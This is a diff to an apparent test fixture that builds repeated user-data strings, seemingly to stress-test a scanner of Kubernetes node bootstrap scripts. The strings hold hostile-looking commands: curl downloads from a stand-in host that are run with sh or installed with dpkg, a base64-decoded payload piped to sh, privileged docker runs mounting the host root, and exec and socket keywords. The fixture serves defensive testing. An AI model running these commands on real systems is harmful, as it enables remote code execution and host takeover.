@@ -178,6 +178,11 @@ USER_DATA: dict[str, tuple[Callable[[int], str], int]] = {
     "fetched and run": (lambda n: "curl -o a https://x/join; sh b\n" * n + "kubelet", 250),
     "pieces": (lambda n: "kubelet\n" + "A=a=" * n + "\necho $A$A | base64 -d | sh", 3000),
     "containers": (lambda n: "kubelet\n" + "docker run --privileged -v /a:/" * n, 250),
+    "programs": (lambda n: "kubelet\n" + "socket.http fetch( IO::Socket os.execute exec( system(" * n, 150),
+    "variables of programs": (lambda n: "kubelet\n" + "A=kubeadm $A\n" * n, 800),
+    "here-documents": (lambda n: "kubelet\n" + "cat <<A\nservices: {privileged: true}\n" * n, 200),
+    "options": (lambda n: "kubeadm" + " -a=a" * n + " kubelet" * n, 400),
+    "packages": (lambda n: "kubelet\n" + "curl -o a.deb https://x/a; dpkg -i a.deb\n" * n, 200),
     "parts of a key": (lambda n: "[settings.kubernetes]\na" + ".a" * n + "=1", 1900),
 }
 
